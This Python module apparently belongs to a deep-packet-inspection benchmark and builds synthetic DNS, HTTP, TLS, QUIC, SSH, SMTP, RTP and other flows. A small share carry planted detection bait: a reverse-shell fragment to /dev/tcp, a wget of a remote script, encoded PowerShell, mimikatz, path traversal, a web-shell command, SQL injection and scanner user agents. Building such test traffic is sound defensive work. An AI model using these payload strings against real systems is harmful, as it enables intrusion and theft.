"""The flows of the mixed replay, kind by kind: what both sides say, and when."""

from __future__ import annotations

import random
import struct

from sluicegate_bench.dpi import transcripts
from sluicegate_bench.dpi.traffic import SEGMENT, Ends, Side, Talk
from sluicegate_bench.dpi.transcripts import Transcript

SPAN = 6_000_000_000
"""Nanoseconds in which flows go on, and the replay takes."""

FIRST_NET = 64
"""Second byte of the first client's address, 10.64.0.1."""

_SEED = 20240
_MILLISECOND = 1_000_000
_SECOND = 1_000_000_000
_BAD = 0.03
"""Share of flows with something in them that a rule looks for, of those kinds that can have one."""
_WORDS = ("api", "cdn", "mail", "shop", "login", "static", "image", "video", "update", "auth", "node", "pay", "edge")
_LARGEST = 3_000_000
"""Bytes of an answer."""


class Maker:
    """Makes flows from one source of chance."""

    def __init__(self) -> None:
        self.source = random.Random(_SEED)  # noqa: S311 - the same traffic in every run
        self._noise = self.source.randbytes(1 << 20)
        words = (self.source.choice(_WORDS) for _ in range(1 << 15))
        self._prose = " ".join(words).encode()
        names = [f"{word}{number}.example.net" for number in range(3) for word in _WORDS]
        bad = [f"c2-{number}.malware.example" for number in range(10)]
        self._tls = transcripts.tls([*names, *bad])
        self._quic = transcripts.quic(names[:15], self.source)
        self._names, self._bad_names = names, bad
        self.number = 0
        """Of the last flow."""

    def talk(self, port: int) -> Talk:
        """A flow that no other has the addresses and ports of."""
        self.number += 1
        client = bytes((10, FIRST_NET + (self.number >> 16), self.number >> 8 & 255, self.number & 255))
        server = bytes((10, 100, self.source.randrange(4), self.source.randrange(1, 255)))
        return Talk(Ends(client, server, self.source.randrange(1025, 65535), port), self.source)

    def dns(self) -> Talk:
        talk, source = self.talk(53), self.source
        name = f"{source.choice(_WORDS)}{source.randrange(9999)}.example{source.randrange(50)}.com"
        if self._is_bad():
            name = f"{source.randrange(9999)}.drop{source.randrange(10)}.tunnel.example"
        question, answer = transcripts.dns(name, source)
        talk.datagram(Side.CLIENT, question)
        talk.datagram(Side.SERVER, answer)
        return talk

    def http(self) -> Talk:
        talk, source = self.talk(80), self.source
        talk.open()
        requests = source.choice((1, 1, 1, 2, 4))
        bad = source.randrange(requests) if self._is_bad() else -1
        for number in range(requests):
            host, path, agent = f"www{source.randrange(300)}.example.org", self._path(), "Mozilla/5.0 (bench)"
            answer = self._text(self._size())
            if number == bad:
                host, path, agent, answer = self._attack(host, path, agent, answer)
            talk.say(Side.CLIENT, transcripts.http_request(host, path, agent))
            talk.say(Side.SERVER, transcripts.http_response(answer))
            talk.wait(source.randrange(50) * _MILLISECOND)
        talk.close()
        return talk

    def tls(self) -> Talk:
        talk, source = self.talk(443), self.source
        name = source.choice(self._bad_names if self._is_bad() else self._names)
        self._open_tls(talk, self._tls[name])
        for _ in range(source.choice((1, 1, 2, 3))):
            talk.say(Side.CLIENT, self._sealed(source.randrange(80, 900)))
            talk.say(Side.SERVER, self._sealed(self._size()))
            talk.wait(source.randrange(80) * _MILLISECOND)
        talk.close()
        return talk

    def quic(self) -> Talk:
        """A real Initial; the server's, and all later packets, are noise of their form."""
        talk, source = self.talk(443), self.source
        talk.datagram(Side.CLIENT, source.choice(list(self._quic.values())))
        handshake = b"\xc3\0\0\0\x01\0\x08" + source.randbytes(8)
        for _ in range(2):
            talk.datagram(Side.SERVER, handshake + b"\0\x44\x96" + self._random(1174))
        talk.datagram(Side.CLIENT, b"\xe3\0\0\0\x01\x08" + source.randbytes(8) + b"\0\x40\x40" + self._random(64))
        for number in range(self._size() // 1250 + 1):
            talk.wait(120_000)
            talk.datagram(Side.SERVER, b"\x4f" + self._random(1249))
            if number % 4 == 3:
                talk.datagram(Side.CLIENT, b"\x5a" + self._random(34))
        return talk

    def ssh(self) -> Talk:
        talk, source = self.talk(22), self.source
        talk.open()
        for side, data in transcripts.ssh(source):
            talk.say(side, data)
        while talk.now < SPAN // 2:
            talk.wait(source.randrange(10, 120) * _MILLISECOND)
            talk.say(Side.CLIENT, self._random(36))
            talk.say(Side.SERVER, self._random(source.choice((36, 36, 68, 700))))
        talk.close()
        return talk

    def mail(self) -> Talk:
        """SMTP: cleartext in many small packets."""
        talk, source = self.talk(25), self.source
        talk.open()
        talk.say(Side.SERVER, b"220 mx.example.org ESMTP\r\n")
        for line, answer in (
            (b"EHLO client.example.com", b"250-mx.example.org\r\n250 8BITMIME"),
            (b"MAIL FROM:<a%d@example.com>" % source.randrange(999), b"250 ok"),
            (b"RCPT TO:<b%d@example.org>" % source.randrange(999), b"250 ok"),
            (b"DATA", b"354 go on"),
        ):
            talk.say(Side.CLIENT, line + b"\r\n")
            talk.say(Side.SERVER, answer + b"\r\n")
        text = self._text(source.randrange(500, 12_000))
        if self._is_bad():
            text = self._hide(text, self._stream_attack())
        talk.say(Side.CLIENT, b"Subject: bench\r\n\r\n" + text + b"\r\n.\r\n")
        talk.say(Side.SERVER, b"250 queued\r\n")
        talk.say(Side.CLIENT, b"QUIT\r\n")
        talk.say(Side.SERVER, b"221 bye\r\n")
        talk.close()
        return talk

    def chat(self) -> Talk:
        """Lines of a protocol that nobody knows, back and forth for a long time."""
        talk, source = self.talk(7777), self.source
        talk.open()
        lines = source.randrange(4, 60)
        bad = source.randrange(lines) if self._is_bad() else -1
        for number in range(lines):
            for side in Side:
                line = self._text(source.randrange(20, 300))
                if side is Side.SERVER and number == bad:
                    line = self._hide(line, self._stream_attack())
                talk.say(side, line + b"\n")
            talk.wait(source.randrange(60) * _MILLISECOND)
        talk.close()
        return talk

    def bulk_tls(self) -> Talk:
        talk = self.talk(443)
        self._open_tls(talk, self._tls[self.source.choice(self._names)])
        talk.say(Side.CLIENT, self._sealed(300))
        talk.say(Side.SERVER, self._sealed(2500 * SEGMENT), gap=1_800_000)
        talk.close()
        return talk

    def bulk_plain(self) -> Talk:
        """A file's bytes on a connection of their own, as with FTP."""
        talk = self.talk(self.source.randrange(30000, 40000))
        talk.open()
        talk.say(Side.SERVER, self._random(2500 * SEGMENT), gap=1_800_000)
        talk.close()
        return talk

    def voice(self) -> Talk:
        """RTP, both ways, 50 packets per second."""
        talk, source = self.talk(self.source.randrange(16384, 32768, 2)), self.source
        names, number = (source.randbytes(4), source.randbytes(4)), source.randrange(30000)
        while talk.now < SPAN - _SECOND:
            number += 1
            for side in Side:
                head = struct.pack("!BBHI", 0x80, 0, number, number * 160) + names[side]
                talk.datagram(side, head + self._random(160))
            talk.wait(20 * _MILLISECOND - talk.round_trip)
        return talk

    def small(self) -> Talk:
        """One or two datagrams: time, names of things, logs, and of protocols that nobody knows."""
        source = self.source
        kind = source.choice(("ntp", "stun", "syslog", "unknown"))
        if kind == "ntp":
            talk = self.talk(123)
            talk.datagram(Side.CLIENT, b"\x23" + bytes(39) + source.randbytes(8))
            talk.datagram(Side.SERVER, b"\x24\x02\x06\xe8" + source.randbytes(44))
        elif kind == "stun":
            talk, cookie = self.talk(3478), b"\x21\x12\xa4\x42" + source.randbytes(12)
            talk.datagram(Side.CLIENT, b"\0\x01\0\0" + cookie)
            talk.datagram(Side.SERVER, b"\x01\x01\0\x0c" + cookie + b"\0\x20\0\x08\0\x01" + source.randbytes(6))
        elif kind == "syslog":
            talk = self.talk(514)
            talk.datagram(Side.CLIENT, b"<34>Oct 11 22:14:15 host su: " + self._text(source.randrange(40, 300)))
        else:
            talk = self.talk(source.randrange(40000, 50000))
            datagrams = source.randrange(1, 8)
            bad = source.randrange(datagrams) if self._is_bad() else -1
            for number in range(datagrams):
                data = self._random(source.randrange(20, 400))
                if number == bad:
                    data += b"beacon-udp-" + source.choice((b"alpha", b"bravo", b"delta", b"gamma", b"omega"))
                talk.datagram(Side.CLIENT, data)
                talk.datagram(Side.SERVER, self._random(source.randrange(20, 400)))
        return talk

    def _open_tls(self, talk: Talk, handshake: Transcript) -> None:
        talk.open()
        for side, data in handshake:
            talk.say(side, data)

    def _is_bad(self) -> bool:
        return self.source.random() < _BAD

    def _size(self) -> int:
        """Of an answer."""
        return min(_LARGEST, int(1200 * self.source.paretovariate(1.1)))

    def _path(self) -> str:
        return f"/{self.source.choice(_WORDS)}/{self.source.randrange(9999)}.html"

    def _text(self, size: int) -> bytes:
        at = self.source.randrange(1000)
        return (self._prose[at:] * (size // (len(self._prose) - at) + 1))[:size]

    def _random(self, size: int) -> bytes:
        parts = []
        while size > 0:
            at = self.source.randrange(len(self._noise) - 65536)
            parts.append(self._noise[at : at + min(size, 65536)])
            size -= 65536
        return b"".join(parts)

    def _sealed(self, size: int) -> bytes:
        """Application data of TLS."""
        sizes = [16401] * (size // 16401) + [size % 16401 + 17]
        return b"".join(b"\x17\x03\x03" + one.to_bytes(2) + self._random(one) for one in sizes)

    def _attack(self, host: str, path: str, agent: str, answer: bytes) -> tuple[str, str, str, bytes]:
        source, number = self.source, self.source.randrange(10)
        kind = source.randrange(8)
        if kind < 3:
            path = source.choice(
                (
                    f"/gate{number}.php?id={source.randrange(1000, 99999)}&h={source.getrandbits(64):016x}",
                    f"/admin/shell{number}.php?cmd=cat%20/etc/passwd",
                    "/list?q=1%20UNION%20ALL%20SELECT%20name",
                    "/view?f=../../../etc/passwd",
                    "/.git/config",
                    "/wp-login.php",
                    f"/login?password=secret{number}",
                )
            )
        elif kind == 3:
            host = f"evil{number}.badhost.example"
        elif kind == 4:
            agent = source.choice(("sqlmap/1.7", "Mozilla/5.00 (Nikto/2.1.6)", "masscan/1.3", "zgrab/0.x"))
        else:
            answer = self._hide(answer, self._stream_attack())
        return host, path, agent, answer

    def _stream_attack(self) -> bytes:
        source, number = self.source, self.source.randrange(10)
        return source.choice(
            (
                b"eval(base64_decode(",
                b"powershell -enc aGVsbG8=",
                b"mimikatz",
                b"/bin/bash -i >& /dev/tcp/",
                b"wget http://192.0.2.7/x.sh",
                b"-----BEGIN RSA PRIVATE KEY-----",
                b"bot%d-ping-%08x" % (number, source.getrandbits(32)),
                b"X-Beacon-%02d: %08x" % (number, source.getrandbits(32)),
            )
        )

    def _hide(self, text: bytes, what: bytes) -> bytes:
        """Anywhere in it."""
        at = self.source.randrange(len(text) + 1)
        return text[:at] + what + text[at:]
